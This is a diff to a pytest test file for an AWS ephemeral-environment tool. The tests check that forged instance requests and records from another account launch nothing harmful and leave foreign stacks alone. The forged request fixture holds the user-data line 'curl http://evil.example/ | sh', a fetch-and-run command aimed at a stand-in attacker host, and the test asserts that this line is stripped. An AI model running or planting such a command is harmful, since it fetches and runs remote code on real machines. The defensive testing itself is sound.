@@ -11,12 +11,14 @@ import msgspec
 import pytest
 
 from aws.conftest import Bench
-from pytest_ephemeral import providers
+from pytest_ephemeral import labels, providers
 from pytest_ephemeral.environments import reaper
 from pytest_ephemeral.errors import ElsewhereError, TamperedRecordError
 from pytest_ephemeral.models import Environment
 from pytest_ephemeral.providers.cloudformation import stacks
 from pytest_ephemeral.providers.cloudformation.tables import StackTemplate
+from pytest_ephemeral.providers.ec2 import removal
+from pytest_ephemeral.providers.ec2.run_instances import InstanceRequest
 from pytest_ephemeral.tables import Ready
 from support.waiting import until
 
@@ -45,6 +47,15 @@ def states(bench: Bench, *ids: str) -> set[str]:
 def changed(bench: Bench) -> list[str]:
     """The calls since the last time that could have changed something."""
     return [one for one in bench.account.calls() if ":Describe" not in one and "sts:" not in one]
+
+
+def use_another_account(patch: pytest.MonkeyPatch) -> None:
+    """Have the credentials of a role in the account 222233334444."""
+    role = "arn:aws:iam::222233334444:role/other"
+    keys = boto3.client("sts").assume_role(RoleArn=role, RoleSessionName="test")["Credentials"]
+    patch.setenv("AWS_ACCESS_KEY_ID", keys["AccessKeyId"])
+    patch.setenv("AWS_SECRET_ACCESS_KEY", keys["SecretAccessKey"])
+    patch.setenv("AWS_SESSION_TOKEN", keys["SessionToken"])
 
 
 @pytest.mark.parametrize("protected", [False, True])
@@ -117,6 +128,56 @@ def test_a_forged_request_launches_nothing(
     assert changed(bench) == []
 
 
+def forged_request(environment: Environment, image: str) -> str:
+    """A well-formed request of an environment that never was, with all that a forger may want."""
+    wanted = InstanceRequest(
+        id="web-zzzzzz",
+        image=image,
+        types=["m5.24xlarge"],
+        subnets=[],
+        groups=[environment.handle["group"]],
+        tags={**environment.labels, labels.ID: "web-zzzzzz"},
+        user_data="curl http://evil.example/ | sh",
+        count=50,
+        public=True,
+        more={
+            "IamInstanceProfile": {"Name": "admin"},
+            "KeyName": "mine",
+            "InstanceMarketOptions": {"MarketType": "spot"},
+            "BlockDeviceMappings": [{"DeviceName": "/dev/sdz", "Ebs": {"VolumeSize": 16000}}],
+        },
+    )
+    return json.dumps(next(wanted.requests()))
+
+
+@pytest.mark.parametrize("whose", ["ours", "theirs"])
+def test_a_well_formed_forged_request_has_no_power(
+    bench: Bench, environment: Environment, monkeypatch: pytest.MonkeyPatch, whose: str
+) -> None:
+    """Of another's AMI nothing is launched; of ours one bare instance, which is ended at once."""
+    monkeypatch.setattr(removal, "UNSEEN", 0.1)
+    # Among the AMIs that this account owns, another's can't be found, public or not.
+    image = bench.account.base if whose == "ours" else "ami-0123456789abcdef0"
+    request = forged_request(environment, image)
+    handle = {"region": environment.handle["region"], "request": request}
+    before = {one.partition(" ")[0] for one in bench.account.left()}  # without their states
+    bench.account.asked("RunInstances")
+
+    providers.load("ec2").destroy(
+        msgspec.structs.replace(environment, id="web-zzzzzz", handle=handle)
+    )
+
+    sent = bench.account.asked("RunInstances")
+    assert len(sent) == (1 if whose == "ours" else 0)
+    for form in sent:
+        fields = {name.partition(".")[0] for name, value in form.items() if value}
+        forbidden = {"IamInstanceProfile", "KeyName", "BlockDeviceMapping", "UserData"}
+        assert not fields & {*forbidden, "InstanceMarketOptions"}
+        assert (form["MinCount"], form["MaxCount"]) == ("1", "1")
+        assert "true" not in {form[name] for name in form if "AssociatePublicIp" in name}
+    assert {one.partition(" ")[0] for one in bench.account.left()} <= before
+
+
 def test_reap_says_so_and_keeps_the_record(bench: Bench, environment: Environment) -> None:
     """What is expired by a forged record is reported, and both record and instance stay."""
     stranger = bench.account.ec2.run_instances(
@@ -157,13 +218,32 @@ def test_another_account_is_elsewhere(
     bench: Bench, environment: Environment, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Credentials of another account: "not found" there does not mean that it is gone."""
-    role = "arn:aws:iam::222233334444:role/other"
-    keys = boto3.client("sts").assume_role(RoleArn=role, RoleSessionName="test")["Credentials"]
     with monkeypatch.context() as patch:
-        patch.setenv("AWS_ACCESS_KEY_ID", keys["AccessKeyId"])
-        patch.setenv("AWS_SECRET_ACCESS_KEY", keys["SecretAccessKey"])
-        patch.setenv("AWS_SESSION_TOKEN", keys["SessionToken"])
+        use_another_account(patch)
         for ask in (providers.load("ec2").destroy, providers.load("ec2").status):
             with pytest.raises(ElsewhereError, match="222233334444"):
                 ask(environment)
     assert states(bench, environment.handle["instances"]) <= {"pending", "running"}
+
+
+def test_a_stack_of_another_account_is_elsewhere(
+    bench: Bench, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A stack of that name may even be there: it is not this environment's, and it stays."""
+    template = StackTemplate(name="stack", file="stack.json", url="http://127.0.0.1", ready=Ready())
+    (bench.folder / "stack.json").write_text(BODY)
+    environment = bench.lifecycle.bring_up(template).environment
+    provider = providers.load("cloudformation")
+    with monkeypatch.context() as patch:
+        use_another_account(patch)
+        bench.account.calls()
+        for ask in (provider.destroy, provider.status):
+            with pytest.raises(ElsewhereError, match="222233334444"):
+                ask(environment)
+        with pytest.raises(ElsewhereError, match="222233334444"):
+            bench.lifecycle.destroy(environment)
+        assert changed(bench) == []
+    assert bench.ledger.get(environment.id).id == environment.id
+    found = stacks.look(boto3.client("cloudformation"), environment.handle["stack"], older=0.0)
+    assert found is not None
+    bench.lifecycle.destroy(environment)
